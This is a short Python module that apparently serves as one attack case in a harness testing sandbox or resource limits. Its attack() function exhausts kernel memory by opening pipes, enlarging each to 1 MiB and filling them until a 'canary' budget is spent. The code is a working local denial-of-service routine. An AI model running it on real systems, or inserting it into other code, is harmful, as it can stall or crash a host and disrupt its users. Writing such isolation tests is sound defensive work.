"""Fills the kernel's memory with the contents of pipes."""

import fcntl
import os

KIND = "done"


def attack(canary):
    left = canary["kernel_memory"]
    while left > 0:
        _, fd = os.pipe()
        os.set_blocking(fd, False)
        size = fcntl.fcntl(fd, fcntl.F_SETPIPE_SZ, 2**20)
        left -= os.write(fd, bytes(size))
    return canary["done"]
